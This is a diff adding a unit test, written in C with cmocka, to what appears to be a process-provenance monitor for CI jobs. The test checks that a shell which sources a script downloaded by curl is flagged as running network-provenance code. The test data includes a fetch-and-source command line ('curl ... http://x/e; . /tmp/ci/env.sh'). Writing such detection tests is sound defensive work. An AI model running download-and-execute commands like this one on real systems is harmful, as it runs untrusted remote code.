@@ -1180,6 +1180,35 @@ static void test_environment_sent(void **state)
 	assert_int_equal(info_of(w, sort).sends_prov, 0);
 }
 
+/* A shell that sources what its child downloaded: judged again when the file is written. */
+static void test_sourced_download(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = job_shell(w), *sh, *curl;
+
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash",
+		ARGV("bash", "-c", "curl -s -o /tmp/ci/env.sh http://x/e; . /tmp/ci/env.sh"), 0, 0,
+		NULL);
+	curl = fork_of(w, sh);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "/tmp/ci/env.sh", "http://x/e"),
+		0, 0, NULL);
+	assert_int_equal(info_of(w, sh).script_prov, 0);
+	file_op(w, curl, "open-write", "/tmp/ci/env.sh", NULL);
+	assert_true(rejudged(w, sh));
+	assert_int_equal(info_of(w, sh).script_prov, BW_PROV_NETWORK);
+	/* the same download, sourced by nobody */
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash",
+		ARGV("bash", "-c", "curl -s -o /tmp/ci/tool.tgz http://x/t; tar xzf /tmp/ci/tool.tgz"),
+		0, 0, NULL);
+	curl = fork_of(w, sh);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "/tmp/ci/tool.tgz", "http://x/t"),
+		0, 0, NULL);
+	file_op(w, curl, "open-write", "/tmp/ci/tool.tgz", NULL);
+	assert_int_equal(info_of(w, sh).script_prov, 0);
+}
+
 /* A shell builtin (export -p, declare -x, set) dumping the environment into a network program. */
 static void test_builtin_env_sent(void **state)
 {
@@ -1378,6 +1407,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_builtin_env_sent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_sourced_download, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_process_substitution_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_inline_env_dump, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_loader_runs_program, setup, teardown),
